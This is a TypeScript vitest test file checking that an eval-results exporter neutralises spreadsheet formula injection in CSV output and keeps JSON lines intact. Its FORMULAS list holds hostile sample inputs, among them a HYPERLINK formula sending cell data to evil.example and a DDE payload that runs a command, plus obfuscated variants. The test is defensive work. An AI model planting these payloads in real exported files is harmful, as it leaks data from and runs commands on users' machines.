import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { exportFormats, exportHead, exportLine } from '../../../core/evals/export/run-lines.ts';
import type { EvalCaseResult } from '../../../core/ports/batches.ts';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?q="&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  '＝1+1',
  'a,b\r\n=1+1,c',
];

/** A case whose every text is the given one. */
const caseOf = (text: string) =>
  ({
    ...{ question: text, verdict: 'passed', outcome: 'answered', text, error: text, traceId: text },
    citations: [{ path: text }],
    scores: { exact: 1 },
    expected: { expectedAnswer: text, expectedSources: [text], mustAbstain: false },
  }) as unknown as EvalCaseResult;

const scorers = [{ name: 'exact' as const }];

describe('an exported run', () => {
  it.each(FORMULAS)('holds no cell that a spreadsheet would carry out: %j', (text) => {
    const table = exportHead('csv', scorers) + exportLine('csv', caseOf(text), scorers, 0);
    const rows: string[][] = parse(table, { relax_column_count: false });
    expect(rows).toHaveLength(2);
    const cells = rows[1] ?? [];
    expect(cells.filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
    expect(cells[0]?.replace(/^'/, '')).toBe(text);
  });

  it.each(FORMULAS)('is a line of JSON a case, whatever its texts hold: %j', (text) => {
    for (const format of (Object.keys(exportFormats) as (keyof typeof exportFormats)[]).filter(
      (one) => one !== 'csv',
    )) {
      const line = exportLine(format, caseOf(text), scorers, 0);
      expect(line.split('\n')).toHaveLength(2);
      expect(JSON.stringify(JSON.parse(line))).toContain(JSON.stringify(text).slice(1, -1));
    }
  });
});
